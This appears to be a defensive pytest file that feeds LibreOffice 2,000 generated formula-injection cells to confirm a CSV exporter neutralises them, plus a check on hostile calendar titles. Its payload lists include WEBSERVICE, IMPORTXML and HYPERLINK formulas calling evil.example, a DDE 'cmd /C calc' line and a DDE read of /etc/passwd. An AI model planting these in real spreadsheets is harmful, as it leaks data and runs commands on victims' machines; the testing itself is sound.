"""2,000 hostile cells as a table that LibreOffice reads; 1,000 hostile titles as calendars."""

from __future__ import annotations

import asyncio
import random
import shutil
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import HealthCheck, given, settings
from icalendar import Calendar

from bot.documents.spreadsheets import to_csv
from commands.calendar.ics import text_values, writer
from commands.calendar.tests.test_ics_out import HOSTILE, NOW, event
from tests.faults.figures import Figure, full_or

CELLS, TITLES = full_or(2_000, 200), full_or(1_000, 100)
OFFICE = shutil.which("soffice")
READ_AS = "CSV:59,34,76,1,,0,false,true,false,false,false,-1,true"
"""Semicolons, quotes, UTF-8; numbers are detected and formulas evaluated, as carelessly as can be
(LibreOffice help, Filter Options for CSV)."""
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
STARTS = [
    *(
        "",
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        "＝",
        "＋",
        "－",
        "＠",
        "'=",
        "''=",
        " =",
        "\xa0=",
    ),
    *(
        "\u200b=",
        "\ufeff=",
        "\u202e=",
        "\x00=",
        '"=',
        '"";=',
        ";=",
        '";"=',
        "\r\n=",
        "\\=",
        "{=",
        "%=",
    ),
]
BODIES = [
    *("1+1", "SUM(1;2)", 'HYPERLINK("http://evil.example";"ver")', "cmd|' /C calc'!A0"),
    *(
        'WEBSERVICE("http://evil.example/"&A1)',
        'DDE("soffice";"/etc/passwd";"a")',
        "A1",
        "$Sheet1.A1",
    ),
    *(
        'IMPORTXML("http://evil.example";"//a")',
        "2026-11-28",
        "0x10",
        "1e9",
        "TRUE",
        "á;b",
        '"',
        "x" * 500,
    ),
]


def hostile_cells(count: int) -> list[str]:
    chance = random.Random(20)  # noqa: S311
    made = [start + body for start in STARTS for body in BODIES]
    while len(made) < count:
        made.append(chance.choice(STARTS) + chance.choice(STARTS) + chance.choice(BODIES))
    return chance.sample(made, count)


async def formulas(csv: Path) -> int:
    """Return how many cells of the file LibreOffice takes for formulas."""
    assert OFFICE is not None
    profile = f"-env:UserInstallation={(csv.parent / 'profile').as_uri()}"
    command = [OFFICE, profile, "--headless", f"--infilter={READ_AS}", "--convert-to", "fods"]
    reading = await asyncio.create_subprocess_exec(
        *command, "--outdir", str(csv.parent), str(csv), stdout=asyncio.subprocess.DEVNULL
    )
    assert await reading.wait() == 0
    cells = ElementTree.parse(csv.with_suffix(".fods")).iter(f"{TABLE}table-cell")  # noqa: S314
    return sum(f"{TABLE}formula" in cell.attrib for cell in cells)


@pytest.mark.full  # LibreOffice is not in the lock: Debian's libreoffice-calc-nogui
async def test_no_cell_is_a_formula(figure: Figure, tmp_path: Path) -> None:
    figure.mark("0 formula cells of 2,000, as LibreOffice reads them")
    if OFFICE is None:
        figure.result("no LibreOffice here: apt install libreoffice-calc-nogui", passed=False)
    cells = hostile_cells(CELLS)
    (tmp_path / "guarded.csv").write_bytes(to_csv([[str(n), cell] for n, cell in enumerate(cells)]))
    (tmp_path / "bare.csv").write_text("\r\n".join(f"={n}+1" for n in range(9)), "utf-8")
    assert await formulas(tmp_path / "bare.csv") == 9, "it would find some"
    found = await formulas(tmp_path / "guarded.csv")
    figure.result(
        f"{found} formula cells of {CELLS:,}; without the guard it takes 9 of 9 for formulas",
        passed=found == 0,
        formulas=found,
        cells=CELLS,
    )


def test_each_title_is_one_event(figure: Figure) -> None:
    figure.mark("exactly one VEVENT with an equal SUMMARY, 1,000 of 1,000")
    tried, equal = 0, 0

    @settings(
        max_examples=TITLES, deadline=None, database=None, suppress_health_check=list(HealthCheck)
    )
    @given(title=HOSTILE)
    def reads(title: str) -> None:
        nonlocal tried, equal
        tried += 1
        file = writer.write_calendar([event(title=title, about=title, place=title)], NOW)
        [entry] = Calendar.from_ical(file.decode()).walk("VEVENT")
        meant = text_values.join_lines(text_values.strip_addresses(title))
        equal += str(entry.get("SUMMARY", "")) == meant

    reads()
    figure.result(
        f"{equal:,} of {tried:,} hostile titles read back by icalendar, one event each",
        passed=tried == equal >= TITLES,
        equal=equal,
        tried=tried,
    )
